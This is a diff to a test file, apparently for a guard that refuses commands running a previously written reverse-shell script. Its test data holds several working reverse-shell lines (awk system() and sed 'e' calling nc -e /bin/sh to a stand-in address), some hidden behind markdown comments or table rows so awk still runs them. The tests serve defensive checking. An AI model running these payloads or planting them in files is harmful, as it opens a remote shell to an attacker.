@@ -169,6 +169,13 @@ NOTEBOOK_BANG = json.dumps(
         ("rev.awk", 'BEGIN { system("nc -e /bin/sh 203.0.113.7 4444") }', "awk -f rev.awk data.csv"),
         ("rev.txt", "1e nc -e /bin/sh 203.0.113.7 4444\n", "sed -f rev.txt notes.md"),
         ("rev.awk", 'BEGIN { system("nc -e /bin/sh 203.0.113.7 4444") }', "cp rev.awk t && awk -f t"),
+        # quotes awk reads in a comment, a table's | on the first line: no syntax error, read whole
+        (
+            "notes.md",
+            "# Don't panic.\n" + 'BEGIN { system("nc -e /bin/sh 203.0.113.7 4444") }',
+            "awk -f notes.md",
+        ),
+        ("t.md", '| a | b |\nBEGIN { system("nc -e /bin/sh 203.0.113.7 4444") }', "cp t.md t && awk -f t x"),
     ],
 )
 async def test_written_reverse_shell_then_run_is_refused_naming_the_file(
